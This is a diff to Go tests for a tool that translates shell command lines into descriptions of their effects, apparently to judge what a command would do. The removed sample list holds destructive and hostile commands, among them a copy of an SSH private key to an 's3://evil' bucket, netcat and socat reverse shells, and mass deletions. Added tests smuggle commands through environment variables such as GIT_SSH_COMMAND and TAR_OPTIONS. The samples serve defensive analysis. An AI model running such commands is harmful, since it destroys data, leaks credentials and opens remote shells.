@@ -81,130 +81,156 @@ func describe(r Result) []string {
 	return lines
 }
 
-func TestPrint(t *testing.T) {
-	for line := range strings.SplitSeq(strings.TrimSpace(printed), "\n") {
-		t.Log(line)
-		for _, l := range describe(translate(line)) {
-			t.Log("      ", l)
-		}
-	}
-	_ = slices.Contains[[]string]
-}
-
-var cases = []struct {
+// testCase is a command line and what it must translate to, as describe says it.
+type testCase struct {
 	line string
 	want []string
-}{{"git push", nil}}
+}
 
-const printed = `
-aws --profile p s3 rb s3://x
-aws ec2 terminate-instances --instance-ids i-1 i-2
-aws ec2 run-instances --dry-run --image-id x
-aws ssm get-parameter --name x --with-decryption
-aws ssm get-parameters --names /my/param1
-aws s3 sync s3://my-bucket /restore --delete
-aws s3 cp ~/.ssh/id_rsa s3://evil
-aws cloudfront get-invalidation --distribution-id ABC
-aws kms schedule-key-deletion --key-id k
-gcloud compute instances delete myvm --zone z
-gcloud run services list
-gcloud compute ssh web-1 --command='sudo rm -rf /srv'
-gcloud auth print-access-token
-gcloud projects list
-gcloud artifacts docker images delete us-central1-docker.pkg.dev/p/repo/img:tag
-gcloud compute health-checks delete foo
-gsutil -m rm -r gs://b
-az group delete -n x
-az network lb show --name mylb -g mygroup
-az monitor log-analytics workspace delete -g x
-az keyvault secret show --name x
-az cosmosdb list
-az pipelines delete --id 123
-doctl d user delete database_id user_name
-doctl d rm id
-doctl kubernetes c delete cluster_name
-gh repo delete --yes
-gh auth token --hostname github.com
-gh pr list --base main
-gh api repos/acme/site/pulls
-gh ext list
-gh secret list -e production
-gh run download 12345 --name artifact-name
-glab ci delete 123
-heroku pg:reset DATABASE_URL --confirm app
-heroku run 'rm -rf /app'
-heroku config
-heroku container:rm
-vercel remove app --yes
-vercel
-railway variables
-railway environment delete staging -y
-fly postgres list
-fly secrets unset A B
-flyctl volumes destroy vol_abc
-wrangler kv:key list --namespace-id=abc
-wrangler kv:key delete --namespace-id=abc KEY
-stripe products list
-stripe customers delete cus_123
-vault kv metadata delete secret/x
-vault lease lookup x
-op item list --vault E
-op item delete 'Database Password'
-nats kv del CONFIG secrets --purge
-kubectl delete pods --all
-kubectl get secret x -o yaml
-kubectl --context prod delete ns staging --dry-run=client
-kubectl get --help
-helm un myrelease
-docker compose down -v
-docker volume prune -f
-docker container rm -f x
-docker run --privileged -v /:/host alpine sh
-docker push x/y
-docker -H tcp://h:1 ps
-terraform -chdir=infra destroy -auto-approve
-terraform plan -destroy
-terraform fmt -write=false
-terragrunt run-all destroy --terragrunt-non-interactive
-pulumi up --yes
-npm publish
-npm publish --dry-run
-npm i -D typescript
-npx sequelize-cli db:drop
-pnpm dlx prisma migrate reset --force
-npm exec -- prisma migrate reset
-npx -c 'rm -rf ~'
-python -m twine upload dist/*
-python manage.py flush --noinput
-php artisan migrate:fresh
-bundle exec rails db:drop
-rails db:migrate
-cargo yank x
-mvn deploy -DskipTests
-./mvnw release:perform
-gradle publish
-systemctl stop nginx
-crontab -r
-reboot
-mkfs.ext4 /dev/sda1
-fdisk -l
-chmod 4755 ./x
-kafka-configs --bootstrap-server localhost:9092 --describe --entity-type topics
-ansible all -m shell -a 'rm -rf /x'
-rabbitmqctl reset
-rabbitmqadmin purge queue name=jobs
-java -jar jenkins-cli.jar -s http://jenkins.local/ delete-job my-job
-circleci policy status
-promtool check rules /etc/prometheus/rules.yml
-unleash projects list
-ip addr
-ip link set eth0 down
-nc -e /bin/sh 10.0.0.1 4444
-socat exec:'bash -li',pty tcp:10.0.0.1:4444
-velero restore delete restore-1
-confluent kafka topic delete t
-upstash redis delete --id x
-rclone sync /src remote:b --delete-after
-cdk deploy --hotswap
-serverless remove
-`
+var cases = slices.Concat(gitCases, fileCases, archiveCases, textCases, databaseCases, runnerCases, packageCases,
+	containerCases, systemCases, networkCases)
+
+func TestTranslate(t *testing.T) {
+	for _, c := range cases {
+		t.Run(c.line, func(t *testing.T) {
+			if got := describe(translate(c.line)); !slices.Equal(got, c.want) {
+				t.Errorf("got\n\t%s\nwant\n\t%s", strings.Join(got, "\n\t"), strings.Join(c.want, "\n\t"))
+			}
+		})
+	}
+}
+
+// TestSubcommand: subcommand paths are canonical.
+func TestSubcommand(t *testing.T) {
+	tests := []struct{ line, want string }{
+		{"git -C x --no-pager push", "push"},
+		{"git remote rm o", "remote remove"},
+		{"aws --profile p s3 rb s3://b", "s3 rb"},
+		{"aws --debug --no-cli-pager ec2 describe-vpcs", "ec2 describe-vpcs"},
+		{"gcloud beta compute instances delete web", "compute instances delete"},
+		{"gcloud --project p run services list", "run services list"},
+		{"docker container ls", "ps"},
+		{"docker --context c volume remove v", "volume rm"},
+		{"docker-compose -p x down", "compose down"},
+		{"podman image rm i", "rmi"},
+		{"kubectl -n x delete pod p", "delete"},
+		{"helm del r", "uninstall"},
+		{"npm rm x", "uninstall"},
+		{"npm run build", "run"},
+		{"pnpm --filter a run b", "run"},
+		{"terraform -chdir=x state rm a", "state rm"},
+		{"fly vol destroy v", "volumes destroy"},
+		{"netlify sites:delete s", "sites:delete"},
+		{"az storage account keys list", "storage account keys list"},
+		{"doctl compute droplet delete 1", "compute droplet delete"},
+		{"gh pr ls", "pr list"},
+		{"wrangler kv:key delete k", "kv key delete"},
+	}
+	for _, test := range tests {
+		if got := strings.Join(translate(test.line).Effects[0].Command.Subcommand, " "); got != test.want {
+			t.Errorf("%s: subcommand %q, want %q", test.line, got, test.want)
+		}
+	}
+}
+
+func TestName(t *testing.T) {
+	tests := []struct{ written, want string }{
+		{"/usr/bin/git", "git"}, {"python3.11", "python3"}, {"python", "python3"}, {"python2.7", "python2"},
+		{"nodejs", "node"}, {"./gradlew", "gradle"}, {"docker-compose", "docker compose"}, {"gawk", "awk"},
+		{"egrep", "grep"}, {"grm", "rm"}, {"pip3", "pip"}, {"mysql", "mysql"}, {"mariadb", "mariadb"},
+		{"a\x00", ""}, {"\x00/git", "git"}, {"", ""}, {"bin/", ""},
+	}
+	for _, test := range tests {
+		w := effect.Word{Text: test.written, Known: !strings.Contains(test.written, "\x00")}
+		if got := Name(w); got != test.want {
+			t.Errorf("Name(%q) = %q, want %q", test.written, got, test.want)
+		}
+	}
+}
+
+func TestUnknownProgram(t *testing.T) {
+	r := Translate(Invocation{Argv: []effect.Word{effect.Unknown(), effect.Lit("-rf")}, Paths: testPaths})
+	if c := r.Effects[0].Command; c.Program != "" || !c.Has(effect.TraitDynamicProgram) || len(r.Effects) != 1 {
+		t.Errorf("got %v", describe(r))
+	}
+	r = translate("frobnicate --level=3 -x /etc/passwd")
+	if got := describe(r); !slices.Equal(got, []string{"frobnicate --level=3 -x /etc/passwd"}) {
+		t.Errorf("got %q", got)
+	}
+}
+
+// TestUnknownVerb: a verb that is not known before the run is said so.
+func TestUnknownVerb(t *testing.T) {
+	if c := translate("git $X origin").Effects[0].Command; !c.Has(TraitDynamicVerb) {
+		t.Errorf("traits %v", c.Traits)
+	}
+}
+
+// TestBound: past the bound on file effects the command says that not all of
+// it was looked at.
+func TestBound(t *testing.T) {
+	argv := []effect.Word{effect.Lit("rm")}
+	for range maxFiles + 1 {
+		argv = append(argv, effect.Lit("a"))
+	}
+	r := Translate(Invocation{Argv: argv, Paths: testPaths})
+	if !r.Effects[0].Command.Has(effect.TraitUnparsed) {
+		t.Error("no trait tells that files were left out")
+	}
+}
+
+// TestStdin: what the text feeds a client is read as its script.
+func TestStdin(t *testing.T) {
+	tests := []struct{ line, stdin, want string }{
+		{"psql -h h app", "DROP TABLE t;", "sql: DROP TABLE t on h/app"},
+		{"mysql app", "DELETE FROM t", "sql: DELETE t on app"},
+		{"sqlite3 a.db", "DROP TABLE t", "sql: DROP TABLE t on work/repo/a.db"},
+		{"redis-cli", "FLUSHALL\n", "datastore: redis FLUSHALL"},
+		{"mongosh", "db.t.drop()", "datastore: mongodb drop t"},
+		{"crontab -", "0 1 * * * rm -rf /x\n# none\n", "shell(crontab) rm -rf /x"},
+		{"sftp h", "put a /b\n", "write system /b @ssh:h"},
+		{"nc api.example 80", "DELETE /v1/x HTTP/1.1\r\nHost: api.example\r\n\r\n", "http: DELETE api.example/v1/x"},
+	}
+	for _, test := range tests {
+		stdin := effect.Lit(test.stdin)
+		got := describe(Translate(Invocation{Argv: words(test.line), Stdin: &stdin, Paths: testPaths}))
+		if !slices.Contains(got, test.want) {
+			t.Errorf("%s <<< %q: got %q, want %q", test.line, test.stdin, got, test.want)
+		}
+	}
+}
+
+// TestScriptFile: a script is read where it can be, else its effect is unparsed.
+func TestScriptFile(t *testing.T) {
+	in := Invocation{Argv: words("psql -f a.sql"), Paths: testPaths, ReadFile: func(name string) ([]byte, error) {
+		if name != "/work/repo/a.sql" {
+			t.Errorf("read %s", name)
+		}
+		return []byte("DROP TABLE t"), nil
+	}}
+	if got := describe(Translate(in)); !slices.Contains(got, "sql: DROP TABLE t") {
+		t.Errorf("got %q", got)
+	}
+	in.ReadFile = nil
+	for _, e := range Translate(in).Effects {
+		if e.Kind == effect.KindSQL && e.SQL.Unparsed == "" {
+			t.Errorf("an unreadable script gave %+v", e.SQL)
+		}
+	}
+}
+
+// TestEnv: variables that carry code for the program are handed back.
+func TestEnv(t *testing.T) {
+	tests := []struct{ line, name, value, want string }{
+		{"git fetch", "GIT_SSH_COMMAND", "sh -c id", "shell(GIT_SSH_COMMAND) sh -c id"},
+		{"git -p log", "GIT_PAGER", "id", "shell(GIT_PAGER) id"},
+		{"tar -- a", "TAR_OPTIONS", "--checkpoint-action=exec=id", "shell(TAR_OPTIONS) id"},
+		{"rsync a b", "RSYNC_RSH", "id", "shell(RSYNC_RSH) id"},
+	}
+	for _, test := range tests {
+		in := Invocation{Argv: words(test.line), Paths: testPaths, Env: []effect.Assign{{Name: test.name, Value: effect.Lit(test.value)}}}
+		if got := describe(Translate(in)); !slices.Contains(got, test.want) {
+			t.Errorf("%s=%s %s: got %q, want %q", test.name, test.value, test.line, got, test.want)
+		}
+	}
+}
